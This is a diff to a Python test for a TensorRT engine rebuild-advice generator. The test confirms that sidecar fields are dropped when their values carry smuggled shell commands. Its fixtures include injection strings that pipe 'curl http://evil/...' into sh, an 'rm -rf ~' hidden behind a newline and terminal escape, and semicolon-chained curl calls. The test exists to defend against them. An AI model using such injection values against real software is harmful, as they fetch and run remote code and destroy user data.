@@ -72,20 +72,20 @@ def test_the_rebuild_command_is_composed_from_the_checked_fields(tmp_path):
 
 
 def test_fields_that_fail_their_check_are_left_out(tmp_path):
+    """Values of the right type (the sidecar's schema takes them) whose content is unfit for a command."""
     engine = _write_engine(
         tmp_path, intact=True, onnx_path="/m.onnx\n\x1b[2Jrm -rf ~", precision="fp16; curl http://evil/P | sh",
-        tensorrt={"flavour": "$(curl http://evil/F)", "version": "1"},
-        profile={"input": "lr", "batch": 1, "min": ["8; curl http://evil/S", 8], "opt": [16, 16], "max": [True, 32]},
+        profile={"input": "lr", "batch": 1, "min": [10**9, 8], "opt": [16, 16], "max": [32, 32]},
         target={"compute_capabilities": ["SM86", "SM86; curl http://evil/C"]},
-        plugin={"path": "/lib/p.so\n; curl http://evil/L", "sha256": "0" * 64, "embedded": "yes"},
+        plugin={"path": "/lib/p.so\n; curl http://evil/L", "sha256": "0" * 64, "embedded": True},
     )
     advice = rebuild_advice(read_sidecar(engine), engine)
     assert "evil" not in advice and "\n" not in advice and "\x1b" not in advice
     words = shlex.split(advice)
     assert words[:3] == ["gldfn-trt", "build", "MODEL.onnx"]
-    for option in ("--precision", "--backend", "--min", "--max", "--compute-capability", "--plugin", "--no-plugin"):
+    for option in ("--precision", "--min", "--compute-capability", "--plugin", "--no-plugin", "--embed-plugin"):
         assert option not in words, (option, advice)
-    assert words[words.index("--opt") + 1] == "16x16"
+    assert words[words.index("--opt") + 1] == "16x16" and words[words.index("--backend") + 1] == "tensorrt-rtx"
 
 
 def test_a_corrupt_engine_is_refused_with_composed_advice(tmp_path):
